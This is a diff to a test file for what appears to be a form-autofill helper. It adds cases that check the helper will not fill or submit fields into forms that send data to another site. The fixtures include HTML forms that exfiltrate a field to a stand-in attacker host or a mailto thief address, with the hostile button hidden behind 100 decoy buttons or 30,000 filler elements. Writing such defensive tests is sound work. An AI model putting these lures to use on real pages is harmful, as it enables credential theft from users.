@@ -23,6 +23,8 @@ const AWAY = {
   'a frame as target': `<iframe name="sink" hidden></iframe><form target="sink" action="${EVIL}/">${FIELD}<button>Verify</button></form>`,
   'a field called action': `<form action="${EVIL}/"><input type="hidden" name="action" value="/">${FIELD}<button>Verify</button></form>`,
   'a letter': `<form action="mailto:thief@evil.example">${FIELD}<button>Verify</button></form>`,
+  'a button behind a hundred harmless ones': `<form>${FIELD}${'<button hidden>Verify</button>'.repeat(100)}<button hidden formaction="${EVIL}/take">Verify</button></form>`,
+  'a button behind all that is looked at of a page': `<form>${FIELD}${'<i></i>'.repeat(30_000)}<button formaction="${EVIL}/">Verify</button></form>`,
   'a page of data': `<form action="data:text/html,x">${FIELD}<button>Verify</button></form>`,
 };
 
@@ -46,6 +48,17 @@ test('what sends to another site is not filled unasked, never pressed, and asked
     assert.deepEqual([agreed.took, agreed.pressed], [1, undefined], name);
     assert.ok(stage.page.url().startsWith(stage.origin('portal')), name);
   }
+  await filling.helper.close();
+});
+
+test('a form of more sites than are told apart counts as one that sends elsewhere', async () => {
+  const filling = await openFilling(stage);
+  const own = Array.from({ length: 100 }, (_, at) => `${stage.origin(`x${at}.portal`)}/`);
+  const buttons = [...own, EVIL].map((place) => `<button hidden formaction="${place}">Go</button>`);
+  await filling.show(`<form>${FIELD}${buttons.join('')}</form>`);
+  assert.equal((await filling.fill({ unasked: true })).failure, 'field-missing');
+  assert.deepEqual((await filling.fill()).confirm, ['unknown:']);
+  assert.equal(has(await filling.held()), false);
   await filling.helper.close();
 });
 
